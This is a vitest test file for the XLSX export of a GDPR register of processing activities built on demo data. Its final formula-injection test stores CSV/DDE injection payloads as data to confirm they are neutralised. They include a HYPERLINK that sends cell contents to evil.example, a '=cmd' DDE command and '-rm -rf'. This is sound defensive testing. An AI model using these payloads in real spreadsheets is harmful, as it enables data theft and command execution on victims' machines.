import ExcelJS from 'exceljs';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Activity } from '../../model/register.js';
import { openTempRegister, type TempRegister } from '../../testing/temp-register.js';
import { Labels } from '../labels.js';
import { cellText } from './cells.js';

/** Every sheet of a workbook as rows of cell texts (1-based columns kept as array index + 1). */
async function readWorkbook(file: string): Promise<{ wb: ExcelJS.Workbook; sheets: Map<string, string[][]> }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const sheets = new Map<string, string[][]>();
  wb.eachSheet((ws) => {
    const rows: string[][] = [];
    ws.eachRow({ includeEmpty: true }, (row, n) => {
      const cells: string[] = [];
      row.eachCell({ includeEmpty: true }, (c, col) => (cells[col - 1] = cellText(c)));
      rows[n - 1] = Array.from(cells, (v) => v ?? '');
    });
    sheets.set(
      ws.name,
      Array.from(rows, (r) => r ?? []),
    );
  });
  return { wb, sheets };
}

/** The strings of an activity's field as the DPO typed them, codes turned into their labels. */
function expectedTexts(L: Labels, field: string, a: Activity): string[] {
  const v = (a as unknown as Record<string, unknown>)[field];
  const s = (...xs: (string | null | undefined)[]) => xs.filter((x): x is string => Boolean(x));
  switch (field) {
    case 'role':
      return [L.role(a.role)];
    case 'status':
      return [L.status(a.status)];
    case 'legalBases':
      return a.legalBases.flatMap((b) => s(L.term('legal_basis', b.code), b.justification));
    case 'art9Conditions':
      return a.art9Conditions.flatMap((b) => s(L.term('art9_condition', b.code), b.justification));
    case 'dataSubjects':
      return a.dataSubjects.flatMap((x) => s(x.label, x.precision, x.volume));
    case 'dataCategories':
      return a.dataCategories.flatMap((x) => s(x.label, x.description));
    case 'recipients':
      return a.recipients.flatMap((x) => s(x.name, L.term('recipient_type', x.type), x.role, x.precision));
    case 'transfers':
      return a.transfers.flatMap((x) => s(x.recipient, L.country(x.country), L.term('transfer_safeguard', x.safeguard), L.term('art49_derogation', x.derogation), x.documentation));
    case 'retention':
      return a.retention.flatMap((x) =>
        s(x.dataCategory, x.text, x.trigger, L.duration(x.duration), L.duration(x.activePeriod), L.duration(x.archivePeriod), L.finalFate(x.finalFate)),
      );
    case 'securityMeasures':
      return a.securityMeasures.flatMap((x) => s(L.term('security_measure_type', x.type), x.precision));
    case 'jointControllers':
    case 'clients':
      return (v as Record<string, unknown>[]).flatMap((x) =>
        Object.values(x)
          .flatMap((y) => (Array.isArray(y) ? y : [y]))
          .filter((y): y is string => typeof y === 'string' && y !== ''),
      );
    case 'dpia':
      return s(
        L.dpiaStatus(a.dpia.status),
        ...a.dpia.criteria.map((c) => L.term('dpia_criterion', c)),
        ...a.dpia.art35Cases.map((c) => L.term('art35_case', c)),
        a.dpia.override?.justification,
        a.dpia.link,
      );
    case 'automatedDecision':
      return s(L.yesNo(a.automatedDecision.exists), a.automatedDecision.description);
    case 'systems':
      return a.systems.flatMap((x) => s(x.name, x.hosting, x.country ? L.country(x.country) : ''));
    case 'subPurposes':
    case 'dataSources':
      return v as string[];
    default:
      return typeof v === 'string' && v ? [v] : [];
  }
}

const FIELD_COLUMNS: Record<string, string[]> = {
  // field -> labels (FR) of the detailed sheet's columns that must hold it
  dpia: ['Statut de l’AIPD', 'Critères AIPD (lignes directrices WP248)', 'Cas de l’art. 35.3', 'Décision documentée sur l’AIPD', 'Lien vers l’AIPD'],
  automatedDecision: ['Décision automatisée / profilage', 'Description de la décision automatisée'],
};

describe('XLSX export of the demo register', () => {
  let t: TempRegister;
  let file: string;
  let sheets: Map<string, string[][]>;
  let wb: ExcelJS.Workbook;
  let activities: Activity[];
  const L = () => Labels.forRegister(t.reg, 'fr');

  beforeAll(async () => {
    t = openTempRegister({ demo: true });
    file = path.join(t.dir, 'registre.xlsx');
    // The internal version: the transfers' alerts (points to review) are part of what is checked here.
    const r = await t.call('export/file', { format: 'xlsx', lang: 'fr', out: file, scope: {}, audience: 'internal' });
    expect(r.activities).toBe(12);
    ({ wb, sheets } = await readWorkbook(file));
    activities = t.reg.activities.loadMany({});
  });
  afterAll(() => t.cleanup());

  it('has the CNIL list, the detailed sheet, the normalised sheets, the processor register and one fiche per activity', () => {
    const names = [...sheets.keys()];
    expect(names.slice(0, 8)).toEqual([
      'Registre',
      'Détail des traitements',
      'Données et conservation',
      'Destinataires',
      'Transferts',
      'Mesures de sécurité',
      'Registre sous-traitant',
      'Sous-traitant - clients',
    ]);
    expect(names.filter((n) => n.startsWith('Fiche '))).toHaveLength(12);
  });

  it('puts every field of every activity in its column of the detailed sheet', () => {
    const rows = sheets.get('Détail des traitements')!;
    const header = rows[0];
    const col = (label: string) => {
      const k = header.indexOf(label);
      expect(k, `column "${label}"`).toBeGreaterThanOrEqual(0);
      return k;
    };
    const labels = L();
    const fieldLabel: Record<string, string> = {};
    for (const key of Object.keys(activities[0])) {
      // The bases per purpose to check (issue 25) are a point to review, not a field of the record: the internal version's alert column says it.
      if (['id', 'organisationId', 'version', 'purposeBasesToCheck'].includes(key)) continue;
      const k = key as Parameters<Labels['t']>[0];
      fieldLabel[key] = labels.t(k);
    }
    const demoOrgs = new Map(t.reg.activities.list({}).map((s) => [s.id, s.organisationId]));
    for (const a of activities) {
      const row = rows.find((r) => r[0] === a.ref && r[1] === a.name);
      expect(row, `row of ${a.ref}`).toBeTruthy();
      expect(demoOrgs.get(a.id)).toBe(a.organisationId);
      for (const field of Object.keys(fieldLabel)) {
        const columns = FIELD_COLUMNS[field] ?? [fieldLabel[field]];
        const text = columns.map((c) => row![col(c)] ?? '').join('\n');
        if (field === 'createdAt' || field === 'updatedAt' || field === 'lastReviewedAt') {
          const iso = (a as unknown as Record<string, string>)[field];
          expect(text, `${a.ref} ${field}`).toBe(iso ? iso.slice(0, 10) : '');
          continue;
        }
        for (const expected of expectedTexts(labels, field, a)) expect(text, `${a.ref} ${field}`).toContain(expected);
      }
      expect(row![col('Données sensibles ? (Oui/Non)')]).toBe(a.dataCategories.some((c) => c.special) ? 'Oui' : 'Non');
      expect(row![col('AIPD requise')]).toBe(a.dpia.required ? 'Oui' : 'Non');
      if (a.dpia.date) expect(row![col('Date de l’AIPD')]).toBe(a.dpia.date);
    }
  });

  it('writes dates as real dates with a French date format, and freezes and filters the header', () => {
    const ws = wb.getWorksheet('Détail des traitements')!;
    const header = (ws.getRow(1).values as unknown[]).map((v) => (v && typeof v === 'object' && 'richText' in v ? (v as ExcelJS.CellRichTextValue).richText[0].text : v));
    const created = ws.getRow(2).getCell(header.indexOf('Date de création de la fiche'));
    expect(created.value).toBeInstanceOf(Date);
    expect(created.numFmt).toBe('dd/mm/yyyy');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toBeTruthy();
    expect(ws.getColumn(2).alignment?.wrapText ?? ws.getRow(2).getCell(2).alignment?.wrapText).toBe(true);
  });

  it('styles every cell as its column (text wrapped at the top, dates formatted) and the header in bold, in every sheet', () => {
    for (const ws of wb.worksheets.filter((w) => ['Détail des traitements', 'Registre'].includes(w.name) || w.name.startsWith('Données'))) {
      let texts = 0;
      ws.eachRow((row) => {
        row.eachCell((c) => {
          if (c.value instanceof Date) expect(c.numFmt, `${ws.name}!${c.address}`).toBe('dd/mm/yyyy');
          else if (c.value && typeof c.value === 'object' && 'richText' in c.value) {
            texts++;
            expect(c.alignment, `${ws.name}!${c.address}`).toMatchObject({ wrapText: true, vertical: 'top' });
          }
        });
      });
      expect(texts, ws.name).toBeGreaterThan(5);
    }
    const detail = wb.getWorksheet('Détail des traitements')!;
    expect(detail.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(detail.getRow(2).getCell(1).font?.bold).toBeFalsy();
  });

  it('mirrors the CNIL list: identity blocks, then one row per activity in the CNIL columns', () => {
    const rows = sheets.get('Registre')!;
    const flat = rows.map((r) => r.join('|'));
    for (const text of [
      'Atelier Lumière SAS',
      'Moreau',
      'Claire',
      'Keller',
      'EU Rep Services GmbH',
      'Nguyen',
      'Conformité & Co',
      'dpo@conformite.example',
      'DPO-2019-012345',
      'Fondation Atelier Lumière',
    ]) {
      expect(
        flat.some((r) => r.includes(text)),
        text,
      ).toBe(true);
    }
    const headerAt = rows.findIndex((r) => r[0] === 'Nom du traitement');
    expect(rows[headerAt].slice(0, 6)).toEqual([
      'Nom du traitement',
      'N° / RÉF',
      'Date de création de la fiche',
      'Dernière mise à jour de la fiche',
      'Finalité du traitement',
      'Données sensibles ? (Oui/Non)',
    ]);
    for (const a of activities) {
      const row = rows.find((r) => r[1] === a.ref && r[0] === a.name);
      expect(row, a.ref).toBeTruthy();
      expect(row!.slice(2, 6)).toEqual([a.createdAt.slice(0, 10), a.updatedAt.slice(0, 10), a.purpose, a.dataCategories.some((c) => c.special) ? 'Oui' : 'Non']);
    }
    // The processor register is kept apart from the controller register.
    const processorTitle = flat.findIndex((r) => r.startsWith('Registre des catégories d’activités de traitement (sous-traitant'));
    const p001 = rows.findIndex((r) => r[1] === 'P-001');
    const t001 = rows.findIndex((r) => r[1] === 'T-001' && r[0] === 'Gestion de la paie');
    expect(processorTitle).toBeGreaterThan(t001);
    expect(p001).toBeGreaterThan(processorTitle);
  });

  it('lists data categories with their retention, recipients, transfers and security measures, each row with its activity reference', () => {
    const labels = L();
    // Two organisations are in scope: an organisation column follows the reference (checked, then set aside).
    const withoutOrg = (rows: string[][]) => {
      expect(rows[0][1]).toBe('Organisme');
      for (const r of rows.slice(1)) expect(['Atelier Lumière SAS', 'Fondation Atelier Lumière']).toContain(r[1]);
      return rows.map((r) => [r[0], ...r.slice(2)]);
    };
    const data = withoutOrg(sheets.get('Données et conservation')!);
    const recipients = withoutOrg(sheets.get('Destinataires')!);
    const transfers = withoutOrg(sheets.get('Transferts')!);
    const security = withoutOrg(sheets.get('Mesures de sécurité')!);
    expect(transfers[0]).toEqual([
      'N° / RÉF',
      'Nom du traitement',
      'Destinataire',
      'Pays',
      'Code pays',
      'Situation du pays',
      'Décision d’adéquation',
      'Type de garanties',
      'Article RGPD',
      'Dérogation (art. 49)',
      'Liens vers la documentation',
      'Point d’attention',
      'Analyse d’impact du transfert (référence)',
      'Données de référence',
    ]);
    for (const a of activities) {
      for (const c of a.dataCategories)
        expect(
          data.some((r) => r[0] === a.ref && r[2] === c.label && r[3] === c.description && r[4] === labels.yesNo(c.special)),
          `${a.ref} ${c.label}`,
        ).toBe(true);
      for (const k of a.retention)
        expect(
          data.some((r) => r[0] === a.ref && r[6] === k.text),
          `${a.ref} ${k.text}`,
        ).toBe(true);
      for (const r of a.recipients)
        expect(
          recipients.some((x) => x[0] === a.ref && x[2] === r.name && x[3] === labels.term('recipient_type', r.type) && x[5] === r.role),
          `${a.ref} ${r.name}`,
        ).toBe(true);
      for (const x of a.transfers) {
        const row = transfers.find((r) => r[0] === a.ref && r[2] === x.recipient && r[4] === x.country);
        expect(row, `${a.ref} → ${x.country}`).toBeTruthy();
        expect(row![7]).toBe(labels.term('transfer_safeguard', x.safeguard));
        expect(row![10]).toBe(x.documentation);
      }
      for (const m of a.securityMeasures)
        expect(
          security.some((r) => r[0] === a.ref && r[2] === labels.term('security_measure_type', m.type) && r[3] === m.precision),
          `${a.ref} ${m.type}`,
        ).toBe(true);
    }
    const us = transfers.find((r) => r[0] === 'T-004' && r[4] === 'US')!;
    expect(us[5]).toBe('Adéquation partielle');
    expect(us[6]).toContain('Data Privacy Framework');
    // CloudCRM Inc. is certified under the Data Privacy Framework (directory): the partial adequacy covers it, no alert.
    expect(us[11]).toBe('');
    expect(transfers.find((r) => r[0] === 'T-005' && r[4] === 'IN')![5]).toBe('Non adéquat');
    expect(transfers.find((r) => r[0] === 'T-007' && r[4] === 'CH')![5]).toBe('Pays adéquat');
    expect(transfers.find((r) => r[0] === 'T-009')![11]).toContain('Schrems II');
    // NIR has its own rule; identity falls back on the activity-wide rule.
    expect(data.find((r) => r[0] === 'T-001' && r[2] === 'Numéro de Sécurité Sociale (NIR)')![6]).toBe('5 ans après le départ du salarié');
  });

  it('writes the processor register: clients, categories of processing, sub-processors, transfers, security', () => {
    const p = sheets.get('Registre sous-traitant')!;
    const row = p.find((r) => r[0] === 'P-001')!;
    expect(row.join('\n')).toContain('Boulangerie Martin');
    expect(row.join('\n')).toContain('Hébergement de l’extranet clients');
    expect(row.join('\n')).toContain('MailReach Technologies Pvt Ltd');
    expect(row.join('\n')).toContain('Inde');
    expect(row.join('\n')).toContain('Sauvegardes chiffrées, deux sites distants');
    expect(p.some((r) => r[0]?.startsWith('T-'))).toBe(false);
    const clients = sheets.get('Sous-traitant - clients')!;
    expect(clients.filter((r) => r[0] === 'P-001').map((r) => r[2])).toEqual(['Boulangerie Martin', 'Cabinet Dupuis Avocats']);
    expect(clients.find((r) => r[2] === 'Cabinet Dupuis Avocats')![10]).toBe('Me Dupuis');
  });

  it('writes a fiche per activity in the CNIL layout', () => {
    const fiche = sheets.get('Fiche ALS T-001')!;
    const byLabel = (label: string) => fiche.find((r) => r[0] === label);
    expect(byLabel('Nom du traitement')![1]).toBe('Gestion de la paie');
    expect(byLabel('N° / RÉF')![1]).toBe('T-001');
    expect(byLabel('Date de création de la fiche')![1]).toBe('2019-05-14');
    expect(byLabel('Finalité principale')![1]).toBe('Gestion de la paie et des déclarations sociales obligatoires');
    expect(byLabel('Sous-finalité 2')![1]).toBe('Déclarations sociales nominatives (DSN)');
    expect(byLabel('Responsable du traitement')![1]).toBe('Atelier Lumière SAS');
    expect(byLabel('Délégué à la protection des données')![1]).toBe('Sophie Nguyen');
    expect(byLabel('Numéro de Sécurité Sociale (NIR)')![1]).toBe('Pour les déclarations sociales uniquement');
    expect(byLabel('Numéro de Sécurité Sociale (NIR)')![4]).toContain('5 ans après le départ du salarié');
    const header = fiche.find((r) => r[0] === 'Transferts hors UE')!;
    expect([...new Set(header.filter(Boolean))]).toEqual(['Transferts hors UE', 'Pays', 'Type de garanties', 'Liens vers la documentation']);
    const biometric = sheets.get('Fiche ALS T-007')!;
    expect(biometric.find((r) => r[0] === 'Données biométriques')![1]).toContain('Gabarit');
    const processor = sheets.get('Fiche ALS P-001')!;
    expect(processor.find((r) => r[0] === 'Sous-traitant')![1]).toBe('Atelier Lumière SAS');
    expect(processor.filter((r) => r[0] === 'Responsable de traitement (client)').map((r) => r[1])).toEqual(['Boulangerie Martin', 'Cabinet Dupuis Avocats']);
  });
});

describe('XLSX export options', () => {
  it('exports an extract in English, without fiches when asked, with only the activities in scope', async () => {
    const t = openTempRegister({ demo: true });
    try {
      const file = path.join(t.dir, 'extract.xlsx');
      const r = await t.call('export/file', { format: 'xlsx', lang: 'en', out: file, scope: { refs: ['T-004', 'T-005'] }, fiches: false });
      expect(r.activities).toBe(2);
      const { sheets } = await readWorkbook(file);
      expect([...sheets.keys()]).toEqual(['Register', 'Activities in detail', 'Data and retention', 'Recipients', 'Transfers', 'Security measures']);
      const detail = sheets.get('Activities in detail')!;
      expect(detail.slice(1).map((r) => r[0])).toEqual(['T-004', 'T-005']);
      expect(detail[0][1]).toBe('Name of the processing activity');
      const legal = detail[0].indexOf('Lawful basis (Art. 6)');
      expect(detail[1][legal]).toContain('Performance of a contract or pre-contractual steps');
      const register = sheets.get('Register')!.map((r) => r.join('|'));
      expect(register.some((r) => r.includes('Extract of the register') && r.includes('T-004, T-005'))).toBe(true);
      expect(register.some((r) => r.includes('Fondation Atelier Lumière'))).toBe(false);
      const transfers = sheets.get('Transfers')!;
      expect(transfers.find((x) => x[4] === 'US')![5]).toBe('Partial adequacy');
    } finally {
      t.cleanup();
    }
  });

  it('exports the processor register only, with its sheets', async () => {
    const t = openTempRegister({ demo: true });
    try {
      const file = path.join(t.dir, 'processor.xlsx');
      const r = await t.call('export/file', { format: 'xlsx', lang: 'fr', out: file, scope: { role: 'processor' } });
      expect(r.activities).toBe(1);
      const { sheets } = await readWorkbook(file);
      expect(sheets.has('Registre sous-traitant')).toBe(true);
      expect(
        sheets
          .get('Détail des traitements')!
          .slice(1)
          .map((x) => x[0]),
      ).toEqual(['P-001']);
    } finally {
      t.cleanup();
    }
  });
});

describe('XLSX formula injection', () => {
  it('writes text starting with =, +, -, @ as plain text: no cell is a formula, every text is intact', async () => {
    const t = openTempRegister();
    try {
      const org = await t.call('organisations/create', { organisation: { name: '=1+1' } });
      const nasty = {
        name: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")',
        purpose: '+33 4 72 00 00 00',
        description: '-2+3',
        owner: '@SUM(A1:A9)',
        rights: "Écrire à =cmd|' /C calc'!A0",
        breaches: 'Escape _x0041_ kept',
      };
      await t.call('activities/create', {
        organisationId: org.id,
        activity: {
          ref: '=T-1',
          ...nasty,
          subPurposes: ['=2*3', '@x'],
          dataCategories: [{ label: '+cat', description: '=desc' }],
          securityMeasures: [{ type: 'other', precision: '-rm -rf' }],
        },
      });
      const file = path.join(t.dir, 'nasty.xlsx');
      await t.call('export/file', { format: 'xlsx', lang: 'fr', out: file, scope: {} });
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(file);
      const texts: string[] = [];
      let formulas = 0;
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((c) => {
            if (c.type === ExcelJS.ValueType.Formula || c.formula) formulas++;
            texts.push(cellText(c));
          }),
        ),
      );
      expect(formulas).toBe(0);
      for (const v of [...Object.values(nasty), '=T-1', '=1+1', '=2*3', '@x', '+cat', '=desc', '-rm -rf']) expect(texts, v).toContain(v);
      // And at the XML level: no <f> element anywhere, every text an inline string.
      const { unzipSync, strFromU8 } = await import('fflate');
      const zip = unzipSync(new Uint8Array(fs.readFileSync(file)));
      const sheetsXml = Object.entries(zip).filter(([n]) => n.includes('worksheets/sheet'));
      expect(sheetsXml.length).toBeGreaterThan(5);
      for (const [name, bytes] of sheetsXml) {
        const xml = strFromU8(bytes);
        expect(xml, name).not.toMatch(/<f[ >]/);
        expect(xml, name).not.toMatch(/t="str"/);
      }
    } finally {
      t.cleanup();
    }
  });
});
